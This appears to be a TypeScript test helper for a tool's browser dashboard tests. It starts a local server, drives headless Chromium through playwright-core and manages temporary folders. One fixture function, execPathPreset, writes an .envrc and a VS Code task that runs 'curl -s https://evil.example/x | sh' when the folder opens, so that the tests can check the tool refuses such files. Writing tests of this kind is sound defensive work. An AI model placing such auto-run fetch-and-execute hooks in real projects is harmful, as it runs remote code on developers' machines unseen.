// What every end-to-end dashboard test needs: a real `kiln serve --ui` serving the built
// dist/web on a free port, Debian's headless Chromium driven by playwright-core, fresh pages
// and temporary folders, and `kiln setup` to compare the dashboard's downloads with. Browser
// suites are skipped only when chromium is missing and KILN_REQUIRE_TOOLS is not 1 (CI sets it
// and installs chromium); scripts/run-tests.mjs says so in its summary.
//
// The browser is Debian's chromium-headless-shell where it is installed (`.ci/run` installs
// it), else chromium itself in its headless mode. The shell is the same Chromium (same version,
// same Blink and V8) built without the windowed browser around it, the build playwright itself
// runs for headless tests; measured here, a page costs a third of the CPU it costs in the full
// browser (0.3 s against 0.9-1.3 s) and the browser files half (112 s -> 71 s of CPU), in a
// suite bound by the CPU.
import assert from "node:assert/strict";
import { type ChildProcess, type SpawnSyncReturns, spawn, spawnSync } from "node:child_process";
import {
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { after } from "node:test";
import { fileURLToPath } from "node:url";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";

export const ROOT = fileURLToPath(new URL("../..", import.meta.url));
const CHROMIUM = "/usr/bin/chromium";
const HEADLESS_SHELL = "/usr/bin/chromium-headless-shell";
const required = process.env.KILN_REQUIRE_TOOLS === "1";

/** The `skip` option of a browser suite: a reason when chromium is missing locally, else false. */
export const skipBrowser: string | false =
  !existsSync(CHROMIUM) && !required
    ? "chromium is not installed (apt-get install chromium)"
    : false;

export interface Dashboard {
  /** `http://127.0.0.1:<port>` of the running service, no trailing slash. */
  base: string;
  browser: Browser;
  /**
   * A fresh page (own context: no storage shared with other pages) at the dashboard's `/`, of a
   * returning user: the first-visit guide was seen (`tour: true` makes it a first visit).
   */
  newPage(options?: {
    colorScheme?: "light" | "dark";
    tour?: boolean;
    viewport?: { width: number; height: number };
    /** The browser's language (navigator.languages); en-US unless a test says otherwise. */
    locale?: string;
  }): Promise<{
    context: BrowserContext;
    page: Page;
    errors: string[];
  }>;
  /** A temporary folder removed by close(). */
  tempDir(): string;
  /** Whether its service or browser has gone (stopped, crashed). */
  exited(): boolean;
  close(): Promise<void>;
}

/** What the service is started with besides `--port 0 --ui`, and its environment's additions. */
export interface ServeSetup {
  args?: readonly string[];
  env?: Record<string, string>;
}

async function startServer(setup: ServeSetup): Promise<{ child: ChildProcess; base: string }> {
  if (!existsSync(join(ROOT, "dist/web/index.html"))) {
    const build = spawnSync(process.execPath, ["scripts/build-web.mjs"], {
      cwd: ROOT,
      encoding: "utf8",
    });
    assert.equal(build.status, 0, build.stderr);
  }
  const child = spawn(
    process.execPath,
    [
      join(ROOT, "dist/cli/main.js"),
      "serve",
      "--port",
      "0",
      "--ui",
      "--drain-delay",
      "0",
      ...(setup.args ?? []),
    ],
    {
      cwd: ROOT,
      stdio: ["ignore", "pipe", "pipe"],
      // one render worker (and the spare) unless a test asks for more: each worker is about
      // 0.4 s of CPU to start, the suite is CPU-bound, and a page's renders come one at a time
      env: { ...process.env, SERVICE_WORKERS: "1", ...setup.env },
    },
  );
  const base = await new Promise<string>((resolve, reject) => {
    let output = "";
    const timer = setTimeout(() => reject(new Error(`server did not start: ${output}`)), 20_000);
    const onData = (chunk: Buffer) => {
      output += chunk.toString();
      const match = /kiln listening on (http:\/\/\S+)/.exec(output);
      if (match) {
        clearTimeout(timer);
        resolve((match[1] as string).replace(/\/$/, ""));
      }
    };
    child.stdout?.on("data", onData);
    child.stderr?.on("data", onData);
    child.on("exit", (code) => reject(new Error(`server exited with ${code}: ${output}`)));
  });
  return { child, base };
}

/**
 * The dashboard of the default setup, shared by the test files of this process (the test runner
 * runs several browser files in one: scripts/run-tests.mjs): a service and a browser cost about
 * 2 s of CPU to start, and every test opens pages of its own context (no storage shared). It is
 * closed when the process's tests end.
 */
let sharedDashboard: Promise<Dashboard> | undefined;

after(async () => {
  if (sharedDashboard) await (await sharedDashboard).close();
});

/**
 * The service and the browser; call close() in the suite's `after`. With the default setup, the
 * process's shared ones (close() then removes the file's temporary folders only).
 */
export async function startDashboard(setup: ServeSetup = {}): Promise<Dashboard> {
  if (setup.args !== undefined || setup.env !== undefined) return startOwnDashboard(setup);
  // a service an earlier file's test brought down is not handed on: that file's failure would
  // be blamed on the next one
  if (sharedDashboard && (await sharedDashboard).exited()) {
    await (await sharedDashboard).close();
    sharedDashboard = undefined;
  }
  sharedDashboard ??= startOwnDashboard({});
  const shared = await sharedDashboard;
  const scratch: string[] = [];
  const contexts: BrowserContext[] = [];
  return {
    ...shared,
    async newPage(options) {
      const opened = await shared.newPage(options);
      contexts.push(opened.context);
      return opened;
    },
    tempDir() {
      const dir = mkdtempSync(join(tmpdir(), "kiln-e2e-"));
      scratch.push(dir);
      return dir;
    },
    async close() {
      // pages a failed test left open do not run on into the next file's tests
      await Promise.all(contexts.map((context) => context.close().catch(() => {})));
      for (const dir of scratch) rmSync(dir, { recursive: true, force: true });
    },
  };
}

/** A service and a browser of its own; close() stops both. */
async function startOwnDashboard(setup: ServeSetup): Promise<Dashboard> {
  const { child, base } = await startServer(setup);
  const browser = await chromium.launch({
    executablePath: existsSync(HEADLESS_SHELL) ? HEADLESS_SHELL : CHROMIUM,
    args: [
      "--headless",
      "--no-sandbox",
      "--disable-gpu",
      "--disable-quic",
      "--no-first-run",
      "--disable-background-networking",
      "--disable-component-update",
      "--disable-sync",
    ],
    // launch() gives every run a fresh, empty profile of its own (a --user-data-dir argument
    // is refused by playwright: that is launchPersistentContext's job).
  });
  const scratch: string[] = [];
  return {
    base,
    browser,
    async newPage(options = {}) {
      const context = await browser.newContext({
        acceptDownloads: true,
        viewport: options.viewport ?? { width: 1440, height: 900 },
        colorScheme: options.colorScheme ?? "light",
        // the dashboard speaks the browser's language: every suite reads English unless it asks
        locale: options.locale ?? "en-US",
      });
      // the guide a first visit shows would sit over what other tests click and read
      if (!options.tour) {
        await context.addInitScript(() => {
          try {
            localStorage.setItem("kiln-tour-seen", "1");
          } catch {
            // a test that filled the storage: the key was set by the first page already
          }
        });
      }
      const page = await context.newPage();
      const errors: string[] = [];
      page.on("pageerror", (error) => errors.push(error.message));
      await page.goto(`${base}/`);
      return { context, page, errors };
    },
    tempDir() {
      const dir = mkdtempSync(join(tmpdir(), "kiln-e2e-"));
      scratch.push(dir);
      return dir;
    },
    exited() {
      return child.exitCode !== null || child.signalCode !== null || !browser.isConnected();
    },
    async close() {
      await browser.close();
      child.kill("SIGTERM");
      for (const dir of scratch) rmSync(dir, { recursive: true, force: true });
    },
  };
}

export async function openPreset(page: Page, name: string): Promise<void> {
  await page.click(`[data-testid="preset-${name}"]`);
  await page.waitForSelector('[data-testid="builder"]');
  await page.waitForSelector('[data-testid="preview-content"]');
}

/** Every file under `dir`, relative path → bytes. */
export function readTree(dir: string): Map<string, Buffer> {
  const files = new Map<string, Buffer>();
  const walk = (current: string) => {
    for (const entry of readdirSync(current)) {
      const path = join(current, entry);
      if (statSync(path).isDirectory()) walk(path);
      else files.set(relative(dir, path).split("\\").join("/"), readFileSync(path));
    }
  };
  walk(dir);
  return files;
}

/** `kiln <args>` run in `dir`: the built CLI, or its source through tsx when it is not built. */
export function kiln(args: string[], dir: string): SpawnSyncReturns<string> {
  const built = join(ROOT, "dist/cli/main.js");
  const command = existsSync(built)
    ? [built, ...args]
    : ["--import", "tsx", join(ROOT, "src/main.ts"), ...args];
  return spawnSync(process.execPath, command, { cwd: dir, encoding: "utf8" });
}

/** The files `kiln setup <preset>` writes into `dir`, relative path → bytes. */
export function kilnSetup(preset: string, dir: string): Map<string, Buffer> {
  const result = kiln(["setup", preset], dir);
  assert.equal(result.status, 0, `kiln setup ${preset} failed: ${result.stderr}`);
  return readTree(dir);
}

/**
 * A preset from a stranger in `dir`: one registry-item file whose component writes, besides a
 * manifest, `.envrc` and a `.vscode/tasks.json` that runs a command as the folder opens - files
 * `kiln setup` refuses without --allow-exec-paths. The output folder is the project root.
 * Returns the preset's path.
 */
export function execPathPreset(
  dir: string,
  extraFiles: readonly { path: string; template: string }[] = [],
): string {
  const payload = "curl -s https://evil.example/x | sh";
  const tasks = {
    version: "2.0.0",
    tasks: [
      { label: "setup", type: "shell", command: payload, runOptions: { runOn: "folderOpen" } },
    ],
  };
  const item = join(dir, "hooks.json");
  writeFileSync(
    item,
    JSON.stringify({
      name: "hooks",
      category: "test",
      fields: [],
      files: [
        { path: "app.yaml", template: "kind: ConfigMap\n" },
        { path: ".envrc", template: `${payload}\n` },
        { path: ".vscode/tasks.json", template: `${JSON.stringify(tasks, null, 2)}\n` },
        ...extraFiles,
      ],
    }),
  );
  const preset = join(dir, "hooks.preset.json");
  writeFileSync(
    preset,
    JSON.stringify({
      name: "hooks",
      project: { outputDir: "." },
      components: [{ reference: item, name: "hooks" }],
    }),
  );
  return preset;
}

/**
 * Fills the page's localStorage until it takes not one more entry, so the next save that grows
 * by more than a few characters fails with the browser's quota error. Returns the keys filled.
 */
export async function fillLocalStorage(page: Page): Promise<number> {
  return page.evaluate(() => {
    let count = 0;
    for (const size of [1 << 20, 1 << 16, 1 << 12, 1 << 8, 1 << 4, 1]) {
      const chunk = "x".repeat(size);
      for (;;) {
        try {
          localStorage.setItem(`filler-${count}`, chunk);
          count += 1;
        } catch {
          break;
        }
      }
    }
    return count;
  });
}
